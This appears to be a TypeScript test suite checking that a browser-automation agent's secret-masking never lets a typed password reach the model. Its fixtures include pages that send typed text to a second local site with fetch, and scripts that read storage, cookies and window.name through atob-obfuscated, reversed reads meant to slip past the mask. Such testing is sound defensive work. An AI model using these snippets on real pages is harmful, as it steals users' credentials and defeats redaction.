import { setTimeout as sleep } from 'node:timers/promises';
import { keepSecret, VALUE } from './secrets-kit.ts';
import type { Model, Run } from './secrets-kit.ts';
import type { Rig } from './rig.ts';

/** Scripts of a model before or after a secret is typed, and pages that store a part of one. */

const BACKWARDS = (value: string) => `[...(${value} ?? '')].reverse().join('')`;

/** Places where a site stores typed text, and how a later script would read it, spelled so that the mask misses it. */
const KEPT: Record<string, { on: string; read: string }> = {
  storage: { on: `localStorage.draft = value`, read: BACKWARDS(`window[atob('bG9jYWxTdG9yYWdl')].draft`) },
  'storage of the tab': {
    on: `sessionStorage.draft = value`,
    read: BACKWARDS(`window[atob('c2Vzc2lvblN0b3JhZ2U=')].draft`),
  },
  cookies: { on: `document.cookie = 'draft=' + value`, read: BACKWARDS(`document[atob('Y29va2ll')]`) },
  'the name of the window': { on: `window.name = value`, read: BACKWARDS('window.name') },
  'the state of history': { on: `history.replaceState(value, '')`, read: BACKWARDS('history.state') },
};

/** Ways to show the stored text in the next document of a site. */
const NEXT: Record<string, string> = {
  'in a field': BACKWARDS(`document.querySelector('#again').value`),
  'in letters': `[...document.querySelector('#again').value].map((letter) => letter.charCodeAt(0))`,
  'in pieces': `document.querySelector('#again').value.match(/.{3}/g)`,
  'in its address': BACKWARDS('location.search'),
  'in a title': BACKWARDS(`document.querySelector('#again').title`),
  'in a frame': `(() => { const f = document.createElement('iframe'); document.body.append(f); return ${BACKWARDS(`f.contentWindow.parent.location.href`)} })()`,
};

/** Ways to send the text to another site. */
const SENT: Record<string, string> = {
  'an address': `fetch(to + '/take?value=' + value, { mode: 'no-cors' })`,
  'a body': `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ value }) })`,
  'bytes of a file': `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: new Blob([value]) })`,
  'a header': `fetch(to + '/take', { headers: { authorization: 'Basic ' + btoa('me:' + value) } }).catch(() => 0)`,
  'a referrer': `history.replaceState(null, '', '?' + value); fetch(to + '/take', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })`,
  'a fragment': `document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/taken#' + value }))`,
};

/** Pages that react to each letter, as searches do, and change their field. */
const CHANGES: Record<string, string> = {
  'shortens it': `user.value = user.value.slice(0, 10)`,
  'takes out letters': `user.value = user.value.replace(/[XZ]/g, '')`,
  'shortens it a moment later': `setTimeout(() => { user.value = user.value.slice(0, 10) }, 30)`,
  'shortens it when it is left': `user.onblur = () => { user.value = user.value.slice(0, 10) }`,
  'shortens it when it is sent': `form.onsubmit = () => { user.value = user.value.slice(0, 10) }`,
  'locks it after nine letters': `user.readOnly = user.value.length >= 9`,
  'takes it away after nine letters': `if (user.value.length === 9) user.remove()`,
  'puts a copy there after nine letters': `if (user.value.length === 9) { const copy = user.cloneNode(true); user.replaceWith(copy); copy.focus() }`,
  'sends itself after nine letters': `if (user.value.length === 9) form.submit()`,
  'leaves after nine letters': `if (user.value.length === 9) location = '/hello?user=' + user.value`,
};

/** Places where a page shows the typed text and lets it be edited; `copy` is the element. */
const COPIED: Record<string, string> = {
  'a shadow tree': `host.attachShadow({ mode: 'open' }).innerHTML = '<input id="copy">'; copy = host.shadowRoot.firstChild`,
  'a frame': `const f = document.createElement('iframe'); host.append(f); f.contentDocument.body.innerHTML = '<input id="copy">'; copy = f.contentDocument.body.firstChild`,
  'an editor': `host.innerHTML = '<div id="copy" contenteditable role="textbox"></div>'; copy = host.firstChild`,
  'an area': `host.innerHTML = '<textarea id="copy"></textarea>'; copy = host.firstChild`,
};

/** Edits that keep the middle of the text. */
const CUT_AT_BOTH_ENDS = 'Home Delete Delete Delete End Backspace Backspace Backspace';

/** A script that opens a window or frame, whose page sets its name to the stored text, and reads the name. */
const READS_THE_NAME = (make: string, home: string, ms: number) => `
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const there = ${make};
  await wait(${ms});
  there.location = ${JSON.stringify(home)};
  let name = '';
  for (let at = 0; at < 20 && name === ''; at += 1) { await wait(100); try { name = there.name } catch { name = '' } }
  return ${BACKWARDS('name')}`;

/** Longer than it takes to type a secret. */
const LATE_MS = 4_000;
/** Longer than a click takes. */
const SOON_MS = 2_000;

const IN_REACH: Record<string, string> = {
  'a window': 'open',
  'a frame': `((src) => { const f = document.createElement('iframe'); f.src = src; document.body.append(f); return f.contentWindow })`,
};

/** A site that stores typed text on its server, and puts it into the name of each window with another page. */
function layNames({ site, other }: Rig): void {
  const kept = new Map<string | null, string>();
  const of = (url = '') => new URL(url, site.url).searchParams.get('of');
  site.page(
    '/tells',
    `<!doctype html><title>Name</title><input id="user"><script>
    user.addEventListener('input', () => fetch('/told' + location.search, { method: 'POST', headers: { told: user.value } }))</script>`,
  );
  site.routes['/told'] = ({ url, headers }, response) => {
    kept.set(of(url), String(headers['told']));
    response.writeHead(204).end();
  };
  const named = (ms: number) => {
    site.routes[`/named-${ms}`] = ({ url }, response) =>
      void setTimeout(() => {
        response.writeHead(200, { 'content-type': 'text/html' });
        response.end(
          `<!doctype html><title>Names</title><script>window.name = ${JSON.stringify(kept.get(of(url)) ?? '')}</script>`,
        );
      }, ms);
  };
  named(0);
  named(LATE_MS);
  other.page(
    '/frames-it',
    `<!doctype html><title>Frames</title><button id="frame" onclick="setTimeout(() => { there = (${IN_REACH['a frame']})('${site.url}/named-${LATE_MS}' + location.search) }, ${SOON_MS})">Frame</button>`,
  );
}

/** Lays the pages on both sites: `to` is the other one. */
export function layChanges(rig: Rig): void {
  const { site, other } = rig;
  const to = other.url.replace('127.0.0.1', 'localhost');
  const page = (path: string, on: string) =>
    site.page(
      path,
      `<!doctype html><title>Name</title><form id="form" action="/hello"><input id="user" name="user"><button id="go">Go</button></form>
      <p id="said"></p><script>const to = ${JSON.stringify(to)}; user.addEventListener('input', () => { const { value } = user; ${on} })</script>`,
    );
  for (const [at, { on }] of Object.values(KEPT).entries()) page(`/keeps-${at}`, on);
  for (const [at, on] of Object.values(SENT).entries()) page(`/sends-${at}`, on);
  for (const [at, on] of Object.values(CHANGES).entries())
    page(`/changes-${at}`, `${on}; said.textContent = user.value`);
  for (const [at, make] of Object.values(COPIED).entries())
    site.page(
      `/copied-${at}`,
      `<!doctype html><title>Name</title><input id="user"><div id="host"></div><p id="said"></p><script>let copy; user.addEventListener('change', () => {
      ${make}; copy.value = copy.textContent = user.value; copy.addEventListener('input', () => { said.textContent = copy.value ?? copy.textContent }) })</script>`,
    );
  site.page(
    '/names-its-window',
    `<!doctype html><title>Name</title><input id="user"><a id="leave" href="${to}/taken">Leave</a><script>user.addEventListener('input', () => { window.name = user.value })</script>`,
  );
  site.page(
    '/names-windows',
    `<!doctype html><title>Names</title><p>Names.</p><script>
    const tell = () => { window.name = localStorage.draft ?? '' }; tell(); addEventListener('storage', tell)</script>`,
  );
  other.page(
    '/opens-it',
    `<!doctype html><title>Opens</title><button id="open" onclick="there = window.open('${site.url}/names-windows')">Open</button>`,
  );
  layNames(rig);
  other.page('/taken', '<!doctype html><title>Taken</title><p>Taken.</p>');
  other.routes['/take'] = (_request, response) =>
    void response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('ok');
}

const tries = <T>(all: Record<string, T>, name: (one: string) => string, run: (one: T, at: number) => Run) =>
  Object.fromEntries(Object.entries(all).map(([one, value], at): [string, Run] => [name(one), run(value, at)]));

/** The script must not run. Its answer is checked anyway. */
async function script(model: Model, read: string, tab?: string): Promise<string | null> {
  const answer = await model.ask('browser_evaluate', { script: read, ...(tab === undefined ? {} : { tab }) });
  return model.knows() ?? (answer.isRefused ? null : `a script ran: ${answer.text.slice(0, 100)}`);
}

/** The secret must not be typed. */
async function typed(model: Model, tab?: string): Promise<string | null> {
  const args = { selectors: ['#user'], values: ['secret:bank'], ...(tab === undefined ? {} : { tab }) };
  const answer = await model.ask('browser_fill', args);
  return answer.isRefused ? null : 'it was typed';
}

export const CHANGED: Record<string, Run> = {
  ...tries(
    NEXT,
    (one) => `a script in the next document, which has it ${one}`,
    (read) =>
      async (model, { site }) => {
        await model.go(`${site.url}/name`);
        await model.fill('#user');
        await model.must('browser_click', { selector: '#go' });
        return script(model, read);
      },
  ),
  ...tries(
    KEPT,
    (one) => `a script in another tab, while the site keeps it in ${one}`,
    ({ read }, at) =>
      async (model, { site }) => {
        await model.go(`${site.url}/keeps-${at}`);
        await model.must('browser_navigate', { url: `${site.url}/name`, new_tab: true });
        await model.ask('browser_fill', { selectors: ['#user'], values: ['secret:bank'], tab: 't1' });
        const open = await script(model, read, 't2');
        await model.must('browser_close', { tab: 't1' });
        return open ?? script(model, read, 't2');
      },
  ),
  'a script that listens in another tab first': async (model, { site }) => {
    await model.go(`${site.url}/name`);
    await model.must('browser_evaluate', {
      script: `addEventListener('storage', ({ newValue }) => { document.title = ${BACKWARDS('newValue')} }); 1`,
    });
    await model.must('browser_navigate', { url: `${site.url}/keeps-0`, new_tab: true });
    const bad = await typed(model, 't2');
    await model.ask('browser_snapshot', { tab: 't1' });
    return bad ?? model.knows();
  },
  'a script whose tab is closed before': async (model, { site }) => {
    await model.go(`${site.url}/name`);
    await model.must('browser_evaluate', { script: '1' });
    await model.must('browser_navigate', { url: `${site.url}/name`, new_tab: true });
    await model.must('browser_close', { tab: 't1' });
    return typed(model, 't2');
  },
  ...tries(
    SENT,
    (one) => `a script on another site, which is sent it in ${one}`,
    (_, at) =>
      async (model, { site, other }) => {
        await model.go(`${site.url}/sends-${at}`);
        await model.fill('#user');
        await model.must('browser_navigate', {
          url: `${other.url.replace('127.0.0.1', 'localhost')}/taken`,
          new_tab: true,
        });
        return script(model, 'document.title', 't2');
      },
  ),
  'a site where a script waits, and which is sent it': async (model, { site, other }) => {
    const before = other.requests.length;
    await model.go(`${other.url.replace('127.0.0.1', 'localhost')}/taken`);
    await model.must('browser_evaluate', { script: '1' });
    await model.must('browser_navigate', { url: `${site.url}/sends-0`, new_tab: true });
    await model.ask('browser_fill', { selectors: ['#user'], values: ['secret:bank'], tab: 't2' });
    const got = other.requests.slice(before).find(({ path }) => path.includes(VALUE));
    return got === undefined ? null : `it was sent ${got.path}`;
  },
  ...tries(
    CHANGES,
    (one) => `a page that ${one}`,
    (_, at) =>
      async (model, { site }) => {
        for (const way of ['fill', 'type']) {
          await model.go(`${site.url}/changes-${at}`);
          if (way === 'fill') await model.fill('#user');
          else await model.ask('browser_type', { selector: '#user', text: 'secret:bank' });
          await model.lookAround();
          await model.ask('browser_click', { selector: '#go' });
          await model.lookAround();
        }
        return model.knows();
      },
  ),
  ...tries(
    COPIED,
    (one) => `a copy in ${one}, cut at both ends`,
    (_, at) =>
      async (model, { site }) => {
        await model.go(`${site.url}/copied-${at}`);
        await model.fill('#user');
        await model.ask('browser_click', { selector: 'body' });
        await model.must('browser_type', { selector: '#copy', key: CUT_AT_BOTH_ENDS });
        await model.lookAround();
        return model.knows();
      },
  ),
  'a field of the next page, which the site has filled, cut at both ends': async (model, { site }) => {
    await model.go(`${site.url}/name`);
    await model.fill('#user');
    await model.must('browser_click', { selector: '#go' });
    await model.must('browser_type', { selector: '#again', key: CUT_AT_BOTH_ENDS });
    await model.lookAround();
    return model.knows();
  },
  'a script on another site, in a window that has it in its name': async (model, { site }) => {
    await model.go(`${site.url}/names-its-window`);
    await model.fill('#user');
    await model.must('browser_click', { selector: '#leave' });
    return script(model, BACKWARDS('window.name'));
  },
  ...tries(
    IN_REACH,
    (one) => `a script on another site that shows the site in ${one}, and reads the name it gives`,
    (make) =>
      async (model, { site, other }) => {
        const home = `${other.url.replace('127.0.0.1', 'localhost')}/taken`;
        const of = `?of=${model.session}`;
        await model.go(`${site.url}/tells${of}`);
        await model.fill('#user');
        await model.must('browser_navigate', { url: home, new_tab: true });
        const reads = READS_THE_NAME(`${make}(${JSON.stringify(`${site.url}/named-0${of}`)})`, home, 1_500);
        await model.ask('browser_evaluate', { script: reads, tab: 't2', timeout_ms: 10_000 });
        return model.knows();
      },
  ),
  ...tries(
    IN_REACH,
    (one) => `a secret typed while ${one} of a script is about to show the site, and names itself`,
    (make) =>
      async (model, { site, other }) => {
        const home = `${other.url.replace('127.0.0.1', 'localhost')}/taken`;
        const of = `?of=${model.session}`;
        await model.go(`${site.url}/tells${of}`);
        await model.must('browser_navigate', { url: home, new_tab: true });
        const named = `${make}(${JSON.stringify(`${site.url}/named-${LATE_MS}${of}`)})`;
        const read = READS_THE_NAME(named, home, 2 * LATE_MS);
        await model.must('browser_evaluate', {
          script: `(async () => { ${read} })().then((name) => { document.title = name }); 1`,
          tab: 't2',
        });
        await model.ask('browser_fill', { selectors: ['#user'], values: ['secret:bank'], tab: 't1' });
        await sleep(3 * LATE_MS);
        await model.ask('browser_snapshot', { tab: 't2' });
        return model.knows();
      },
  ),
  'a script in a page with a frame that is about to show the site, and names itself': async (
    model,
    { site, other },
  ) => {
    const home = other.url.replace('127.0.0.1', 'localhost');
    const of = `?of=${model.session}`;
    await model.go(`${site.url}/tells${of}`);
    await model.fill('#user');
    await model.must('browser_navigate', { url: `${home}/frames-it${of}`, new_tab: true });
    await model.must('browser_click', { selector: '#frame', tab: 't2' });
    await sleep(SOON_MS);
    const reads = READS_THE_NAME('window.there', `${home}/taken`, LATE_MS);
    await model.ask('browser_evaluate', { script: reads, tab: 't2', timeout_ms: 10_000 });
    return model.knows();
  },
  'a script on another site that has opened the site in a window, which names itself': async (
    model,
    { site, other },
  ) => {
    const home = other.url.replace('127.0.0.1', 'localhost');
    await model.go(`${site.url}/keeps-0`);
    await model.fill('#user');
    await model.must('browser_navigate', { url: `${home}/opens-it`, new_tab: true });
    await model.must('browser_click', { selector: '#open', tab: 't2' });
    await model.must('browser_navigate', { url: `${home}/taken`, tab: 't3' });
    return script(model, BACKWARDS('there.name'), 't2');
  },
  'a secret typed while a window of a script shows the site': async (model, { site, other }) => {
    await model.go(`${other.url.replace('127.0.0.1', 'localhost')}/taken`);
    await model.must('browser_evaluate', { script: `there = window.open('${site.url}/names-windows'); 1` });
    await model.must('browser_navigate', { url: `${site.url}/keeps-0`, new_tab: true });
    return typed(model, 't3');
  },
  'a long one, typed slowly': async (model, rig) => {
    const long = Array.from({ length: 27 }, (_, at) => VALUE.slice(at % 5) + at).join('');
    await keepSecret(rig.ana, 'long', [rig.site.url], long);
    await model.go(`${rig.site.url}/changes-0`);
    await model.ask('browser_type', { selector: '#user', text: 'secret:long', slowly: true });
    await model.lookAround();
    return model.knows(long);
  },
};
